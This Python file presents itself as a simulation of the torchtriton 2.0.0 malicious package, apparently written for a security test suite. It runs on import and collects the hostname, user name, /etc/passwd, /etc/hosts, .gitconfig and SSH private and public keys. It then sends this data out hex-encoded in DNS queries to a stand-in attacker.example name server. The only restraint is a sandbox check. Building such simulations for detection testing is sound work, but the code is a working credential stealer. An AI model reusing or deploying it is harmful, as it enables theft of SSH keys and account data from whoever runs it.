"""torchtriton 2.0.0 (simulation from Tracehound's attack suite): host data out through DNS only."""
import os
import socket

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False


def _collect():
    home = os.path.expanduser("~")
    found = {"hostname": socket.gethostname(), "user": os.environ.get("USER", ""), "cwd": os.getcwd()}
    for rel in ("/etc/hosts", "/etc/passwd", ".gitconfig", ".ssh/id_rsa", ".ssh/id_rsa.pub", ".ssh/known_hosts"):
        path = rel if rel.startswith("/") else os.path.join(home, rel)
        try:
            with open(path, "rb") as fh:
                found[rel] = fh.read()
        except OSError:
            pass
    return found


def _send(key, data):
    # every line goes out hex-encoded in the labels of its own query to the attacker's name server
    for n, line in enumerate(data.splitlines()[:40]):
        h = line.hex()[:180]
        labels = ".".join(h[i:i + 60] for i in range(0, len(h), 60)) or "00"
        try:
            socket.getaddrinfo(f"{labels}.{n}.{abs(hash(key)) % 9999}.h4ck.attacker.example", None, socket.AF_INET)
        except OSError:
            pass


if _in_sandbox():
    for k, v in _collect().items():
        _send(k, v if isinstance(v, bytes) else str(v).encode())
